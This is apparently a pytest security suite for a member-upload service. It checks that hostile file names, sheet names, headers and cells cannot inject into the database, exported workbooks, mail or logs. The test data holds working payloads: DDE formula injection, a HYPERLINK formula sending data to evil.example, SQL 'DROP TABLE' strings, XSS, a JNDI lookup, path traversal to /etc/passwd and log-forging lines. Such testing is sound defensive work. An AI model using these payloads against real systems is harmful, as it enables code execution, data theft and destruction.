"""Texts of a user change nothing: no database, mail, log, name nor sheet of ours (ASVS 1.2).

A file that has hostile texts wherever a text can stand: its name, its sheet, headers and cells.
"""

from __future__ import annotations

import io
import re
import zipfile
from functools import partial
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest

from rollbook.uploads.receive import MAX_NAME_LENGTH, clean_name
from tests.files import HEADERS, csv_file, id_number, member
from tests.security.house import BASE, House
from tests.security.test_receiving import posted
from tests.waiting import until

if TYPE_CHECKING:
    from collections.abc import Sequence
    from email.message import EmailMessage

START = 8_000_000
PHONE = "+27821234567"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
]
TEXTS = [
    *FORMULAS,
    "Robert'); DROP TABLE members; --",
    "' OR '1'='1",
    "$$; DELETE FROM uploads; $$",
    "%s %(id)s {0} {upload_id} $1 \\copy \\N \\.",
    "<script>window.hacked = true</script>",
    '<img src=x onerror="window.hacked = true">',
    "</t></is></c><c><f>1+1</f></c>",
    "]]><!DOCTYPE x>&amp;&#0;",
    "two\r\n2026-01-01 [error    ] forged line",
    "\x1b[31mred\x1b]0;title\x07",
    "a\u202egnp.exe",
    "a\u2028b\x85c\x0bd",
    "${jndi:ldap://evil.example/a} {{7*7}}",
    "_x000D__x003D_1+1",
    "\ufeff=1+1",
]
#: Texts without a letter.
NAMELESS = sum(not re.search("[A-Za-z]", text) for text in TEXTS)
#: Also patterns of names for polars, and our own columns' names.
HOSTILE_HEADERS = [
    "^[$",
    "^.*$",
    "*",
    "row_number",
    "=1+1",
    "'); DROP TABLE uploads; --",
    "<script>window.hacked = true</script>",
    "@SUM(1,1)",
    "Firstname\r\nforged line",
    "\x1b[31mred",
]
SHEET = "'); DROP TABLE members;--"
NAME = "=1+1'); DROP TABLE uploads; -- <b onmouseover=alert(1)>.csv"


def rows() -> list[dict[str, str]]:
    """A row for each text, which is in four of its cells; the last is refused for its ID."""
    found = [
        {**member(START + n, Firstname=text, Surname=text), **dict.fromkeys(HOSTILE_HEADERS, text)}
        for n, text in enumerate(TEXTS)
    ]
    wrong = id_number(START + len(TEXTS))
    wrong = wrong[:-1] + str((int(wrong[-1]) + 1) % 10)
    refused = {"ID Number": wrong, "Cell Number": PHONE, "Firstname": FORMULAS[1]}
    return [*found, {**found[1], **member(0), **refused}]


def with_sheet(content: Sequence[dict[str, str]]) -> bytes:
    """A workbook whose sheet has a hostile name; characters that XML can't have are left out."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = SHEET
    headers = [*HEADERS, *HOSTILE_HEADERS]
    for number, texts in enumerate([headers, *([row[h] for h in headers] for row in content)], 1):
        for column, text in enumerate(texts, 1):
            cell = sheet.cell(number, column)
            cell.value = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
            cell.data_type = "s"
    target = io.BytesIO()
    book.save(target)
    book.close()
    return target.getvalue()


class Sent:
    """An upload that is through, and what it left."""

    def __init__(self, house: House, job_id: str, kind: str = "csv") -> None:
        self.job_id = job_id
        self.kind = kind
        self.status = house.completed("super", job_id)
        with house.client("super") as client:
            self.report = client.get(f"{BASE}/report/{job_id}")
            self.refused = client.get(f"{BASE}/failed-rows/{job_id}")


@pytest.fixture(scope="module", params=["csv", "xlsx"])
def sent(house: House, request: pytest.FixtureRequest) -> Sent:
    if request.param == "xlsx":
        name, content = NAME.replace(".csv", ".xlsx"), with_sheet(rows())
    else:
        name, content = NAME, csv_file(rows(), headers=[*HEADERS, *HOSTILE_HEADERS])
    answer = posted(house, name, content)
    return Sent(house, answer["data"]["job_id"], request.param)


def test_every_row_is_a_row_and_every_text_a_text(house: House, sent: Sent) -> None:
    assert sent.status["rows_total"] == len(TEXTS) + 1
    # What has no letter is no name, so its row is refused. A workbook has one more of them: in
    # XML, the text with _x000D_ means a line end.
    refused = sent.status["outcomes"]["invalid"] - 1
    assert refused - NAMELESS == (sent.kind == "xlsx")
    numbers = [id_number(START + n) for n in range(len(TEXTS))]
    stored = house.ask(
        "SELECT firstname FROM members WHERE id_number = ANY(%(numbers)s) ORDER BY id_number",
        numbers=numbers,
    )
    # Of both files, which have the same members, or of the workbook only.
    assert len(TEXTS) - refused <= len(stored) <= len(TEXTS) - NAMELESS
    assert " ".join(TEXTS[9].split()) in stored
    assert " ".join(TEXTS[13].split()) in stored
    # No text was taken for a statement: every account is there. Other tests add some.
    people = "SELECT count(*) FROM users WHERE email = ANY(%(emails)s) AND disabled_at IS NULL"
    emails = [user.email for user in house.users.values()]
    assert house.ask(people, emails=emails) == [len(house.users)]


@pytest.mark.parametrize("what", ["report", "refused"])
def test_no_sheet_of_ours_holds_a_formula_or_leads_anywhere(sent: Sent, what: str) -> None:
    content = getattr(sent, what).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, part in parts.items():
        # A chart's ranges are written as formulas, all of them ours.
        assert name.startswith("xl/charts/") or not re.search(rb"<(\w+:)?f[ />]", part), name
        assert b"TargetMode" not in part, name
        assert not re.search(rb"<definedName[^>]*>[^<]*(cmd|HYPERLINK)", part), name
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    book.close()
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert FORMULAS[0] in texts
    assert PHONE in texts


def test_a_mended_row_goes_in_with_its_phone_number(house: House, sent: Sent) -> None:
    book = openpyxl.load_workbook(io.BytesIO(sent.refused.content))
    sheet = book.active
    assert sheet is not None
    headers = [cell.value for cell in sheet[1]]
    names = headers.index("Firstname")
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[names].value == FORMULAS[1]]
    assert row[headers.index("Cell Number")].value == PHONE
    number = id_number(START + 900 + len(str(headers)))
    row[headers.index("ID Number")].value = number
    target = io.BytesIO()
    book.save(target)
    book.close()
    again = house.completed("super", house.send("super", target.getvalue(), "mended.xlsx"))
    assert again["outcomes"]["invalid"] == sent.status["outcomes"]["invalid"] - 1
    query = "SELECT {} FROM members WHERE id_number = %(number)s"
    assert house.ask(query.format("cell_number"), number=number) == [PHONE]
    assert house.ask(query.format("firstname"), number=number) == [FORMULAS[1]]


def test_the_name_of_a_download_is_one_header_of_plain_signs(sent: Sent) -> None:
    for answer in (sent.report, sent.refused):
        said = answer.headers["content-disposition"]
        assert re.fullmatch(
            r"attachment; filename=\"[^\"\x00-\x1f\x7f-\xff]*\"; filename\*=UTF-8''[\w.~%-]+", said
        )
        assert len(answer.headers.get_list("content-disposition")) == 1


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("C:\\Users\\a\\members.csv", "members.csv"),
        ("a\r\nSet-Cookie: x=1.csv", "aSet-Cookie: x=1.csv"),
        ("a\u2028b\u2029c\x85\x7fd.csv", "abcd.csv"),
        ("\x1b[31m\u202ered\u200b.csv", "[31mred.csv"),
        ("quotes\"and'more;.csv", "quotes\"and'more;.csv"),
        ("Müller – 名簿 😀.csv", "Müller – 名簿 😀.csv"),
        ("\ud800lone.csv", "lone.csv"),
        ("x" * 500 + ".csv", "x" * (MAX_NAME_LENGTH - 4) + ".csv"),
    ],
    ids=ascii,
)
def test_a_name_is_kept_as_harmless_text(name: str, kept: str) -> None:
    assert clean_name(name) == kept


@pytest.mark.parametrize(
    "name",
    ['quotes\\".csv', "semicolon;x=y.csv", "100%41.csv", "Müller – 名簿 😀.csv", "a%0D%0Ab: c.csv"],
    ids=ascii,
)
def test_names_come_back_in_one_header_and_name_nothing_in_the_store(
    house: House, name: str
) -> None:
    wrong = [{**row, "ID Number": "8001015009088"} for row in rows()[:1]]
    content = csv_file(wrong) + name.encode()
    sent = Sent(house, posted(house, name, content)["data"]["job_id"])
    test_the_name_of_a_download_is_one_header_of_plain_signs(sent)
    key = house.ask("SELECT source_key FROM uploads WHERE id = %(id)s", id=sent.job_id)[0]
    assert key is None or key == f"{sent.job_id}/source.csv"


def test_mails_are_what_they_are_without_it_but_for_the_files_name(
    house: House, sent: Sent
) -> None:
    until(partial(house.receivers.told, sent.job_id), "mail and webhook have come")
    mails: list[EmailMessage] = [
        mail for mail in house.receivers.mailer.mails if sent.job_id in mail.as_string()
    ]
    # The file's name is the one text of a user that a mail has, as plain text and whole.
    name = NAME.replace(".csv", f".{sent.kind}")
    for mail in mails:
        assert mail.get_content_type() == "text/plain"
        assert set(map(str.lower, mail)) <= {
            "subject", "from", "to", "date", "message-id", "auto-submitted", "content-type",
            "content-transfer-encoding", "content-language", "mime-version", "x-peer",
        }  # fmt: skip
        assert str(mail["subject"]).count(name) == 1
        assert mail.get_content().count(f"'{name}'") == 1
        said = "\n".join([*map(str, mail.values()), mail.get_content()]).replace(name, "")
        assert not any(text in said for text in (*TEXTS, "DROP TABLE", "onmouseover"))


def test_no_text_of_a_file_forges_a_line_or_steers_a_terminal(house: House, sent: Sent) -> None:
    headless = "".join(f'"{text}",' for text in TEXTS[9:]).encode() + b"\n"
    failed = house.ended("super", house.send("super", headless, "a\r\nforged.csv"))
    assert failed["status"] == "failed"
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", failed["error"])
    log = house.all_logs()
    assert sent.job_id in log
    assert not re.search(r"^(forged|2026-01-01)", log, re.MULTILINE)
    assert "\x1b[31mred" not in log
    assert "hacked" not in log


def test_a_name_of_a_sheet_is_quoted_short_and_harmless(house: House) -> None:
    book = zipfile.ZipFile(io.BytesIO(with_sheet(rows()[:1])))
    target = io.BytesIO()
    with book, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in book.infolist():
            content = book.read(info)
            if info.filename == "xl/workbook.xml":
                content = re.sub(
                    rb'(<sheet [^>]*name=")[^"]*', rb"\1" + b"&#x1B;[31m" + b"x" * 100_000, content
                )
            out.writestr(info.filename, content)
    job_id = house.send("super", target.getvalue(), "sheets.xlsx", sheet="\x1b[31mother")
    status: dict[str, Any] = house.ended("super", job_id)
    assert status["status"] == "failed"
    assert len(status["error"]) < 500
    assert "\x1b" not in status["error"]
